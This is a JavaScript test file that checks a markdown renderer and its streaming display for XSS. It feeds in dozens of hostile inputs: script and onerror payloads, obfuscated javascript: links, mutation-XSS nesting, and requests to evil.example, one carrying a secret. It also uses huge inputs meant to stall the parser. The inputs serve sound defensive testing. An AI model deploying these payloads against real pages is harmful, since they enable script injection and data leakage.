/**
 * Hostile text, whole and cut after every character while it streams: nothing dangerous is in the document, not
 * for one frame.
 */

import assert from "node:assert/strict";
import { test } from "node:test";
import { page } from "./page.js";

const { render, LIMITS } = await import("../../static/js/markdown.js");
const { LiveMarkdown } = await import("../../static/js/live.js");

const ALLOWED = new Set(
  (
    "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H2 H3 H4 H5 H6 HR LI OL P PRE S SMALL SPAN STRONG TABLE TBODY TD TH " +
    "THEAD TR UL svg use"
  ).split(" "),
);
const ATTRIBUTES = new Set(
  (
    "aria-hidden aria-label class data-align data-copy data-host data-kind data-lang data-math data-short data-tex " +
    "dir href rel role start tabindex target title type"
  ).split(" "),
);

/** Fails when anything in the tree could run, load, submit or lead anywhere but to the web or a mailbox. */
function assertHarmless(root, context) {
  for (const node of root.querySelectorAll("*")) {
    assert.ok(ALLOWED.has(node.tagName), `<${node.tagName}> in the page: ${context}`);
    for (const { name, value } of node.attributes) {
      assert.ok(ATTRIBUTES.has(name), `${name}="${value}" on <${node.tagName}>: ${context}`);
      if (name === "href" && node.tagName === "A") {
        assert.match(value, /^(?:https?:\/\/[^\s]|mailto:)/i, context);
        assert.equal(node.getAttribute("rel"), "noopener noreferrer nofollow", context);
      }
    }
  }
  for (const use of root.querySelectorAll("use")) assert.match(use.getAttribute("href"), /^#i-[a-z]+$/);
}

const HTML = [
  "<script>alert(1)</script>",
  '<img src=x onerror="alert(1)">',
  '<svg onload=alert(1)><script href="data:text/javascript,alert(1)"/></svg>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src=x>',
  '<form action=//evil.example><input name=a><button formaction="javascript:alert(1)">x</button></form>',
  "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
  '<base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<div hx-get="/c/" hx-trigger="load" hx-on:click="alert(1)" hx-vals="js:{a:alert(1)}" data-hx-post="/">x</div>',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<video poster="https://evil.example/p.png"><source srcset="https://evil.example/q.png 2x"></video>',
  '<p style="background:url(https://evil.example/r.png)">x</p>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<x-y><answer-view></answer-view><prose-text></prose-text><live-thread></live-thread>",
];

const LINKS = [
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt:alert(1))",
  "[a](java\tscript:alert(1))",
  "[a](java&#10;script:alert(1))",
  "[a](&#106;avascript:alert(1))",
  "[a](javascript&colon;alert(1))",
  "[a](\u0001javascript:alert(1))",
  "[a](vbscript:x)",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](file:///etc/passwd)",
  "[a](//evil.example/x)",
  "[a](/logout/)",
  "[a](\\\\evil.example)",
  "[a](https:evil.example)",
  "[a](blob:https://x/y)",
  "<javascript:alert(1)>",
  "<data:text/html,x>",
  "[a][r]\n\n[r]: javascript:alert(1)",
  "![a](javascript:alert(1))",
  '![a](https://evil.example/x.png "t\\" onerror=alert(1)")',
  "![a][r]\n\n[r]: https://evil.example/q?secret=1",
  '[a](https://x.example/"onmouseover="alert(1))',
  "[![a](https://evil.example/i.png)](https://x.example/)",
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  "```js\n</code></pre><script>alert(1)</script>\n```",
  "$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://evil.example/x}$",
  "$$\\htmlStyle{color:red}{x} </div><img src=x onerror=alert(1)>$$",
  "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| `<script>` | [x](javascript:1) |",
];

for (const text of [...HTML, ...LINKS]) {
  test(`harmless, whole and cut everywhere: ${JSON.stringify(text).slice(0, 70)}`, () => {
    for (const source of [text, `Words before.\n\n${text}\n\nand after`]) {
      const whole = page.document.createElement("div");
      whole.append(render(source));
      assertHarmless(whole, source);
    }
    const root = page.document.createElement("div");
    page.document.body.append(root);
    const live = new LiveMarkdown(root);
    const source = `- a **b**\n\n${text} x`;
    for (let at = 1; at <= source.length; at += 1) {
      live.show(source.slice(0, at), false);
      assertHarmless(root, source.slice(0, at));
    }
    live.show(source, true);
    assertHarmless(root, source);
    root.remove();
  });
}

test("no picture is ever in the document, only a link that names its host", () => {
  const root = page.document.createElement("div");
  root.append(
    render("![the plan](https://img.example.net/plan.png?q=1) ![x][r]\n\n[r]: http://other.example/i.gif"),
  );
  assert.equal(root.querySelectorAll("img, picture, source, video, audio, image").length, 0);
  const [first, second] = root.querySelectorAll("a.remote-image");
  assert.match(first.textContent, /the plan.*img\.example\.net/);
  assert.equal(first.target, "_blank");
  assert.match(second.textContent, /other\.example/);
});

test("a link whose words do not name its host shows the host", () => {
  const root = page.document.createElement("div");
  root.append(render("[example.org](https://evil.example/?q=secret) [evil.example](https://evil.example/)"));
  const [lying, honest] = root.querySelectorAll("a");
  assert.equal(lying.dataset.host, "evil.example");
  assert.equal(lying.title, "https://evil.example/?q=secret");
  assert.equal(honest.dataset.host, undefined);
});

test("characters that mark citations cannot be smuggled in", () => {
  const root = page.document.createElement("div");
  root.append(
    render(
      "a \u2e28\ue0001\ue001\u2e29 b `\u2e28\ue0002\ue001\u2e29` [x](https://x.example/\u2e28\ue0003\ue001\u2e29)",
    ),
  );
  assert.equal(root.querySelectorAll(".cite").length, 0);
});

const HUGE = {
  brackets: "[".repeat(1_000_000),
  images: "![".repeat(500_000),
  emphasis: "*a ".repeat(333_333),
  quotes: "> ".repeat(500_000),
  "quoted lines": `${">".repeat(60)}a\n`.repeat(5000),
  "a wide table": `${"|a".repeat(40_000)}|\n${"|-".repeat(40_000)}|\n${"|b".repeat(40_000)}|`,
  fences: "```\nx\n```\n".repeat(5000),
  "unclosed formulas": "\\[ x\n".repeat(40_000),
  dollars: "$x ".repeat(100_000),
  "one long line": "word ".repeat(200_000),
  "nested lists": Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n"),
};

for (const [name, text] of Object.entries(HUGE)) {
  test(`huge: ${name} is shown, in time, and nothing of it is lost`, () => {
    const root = page.document.createElement("div");
    const before = performance.now();
    root.append(render(text));
    const took = performance.now() - before;
    assertHarmless(root, name);
    // jsdom is some ten times slower than a browser, where the deadline is one second.
    assert.ok(took < 8000, `${Math.round(took)} ms`);
    const words = (shown) => shown.replace(/[^a-z]/g, "").replaceAll("textcopy", "").length;
    assert.equal(words(root.textContent.toLowerCase()), words(text));
  });
}

test("a text over the limit stays plain text", () => {
  const root = page.document.createElement("div");
  root.append(render(`**bold** ${"x".repeat(LIMITS.text)}`));
  assert.equal(root.querySelectorAll("strong").length, 0);
  assert.equal(root.firstElementChild.className, "plain");
});
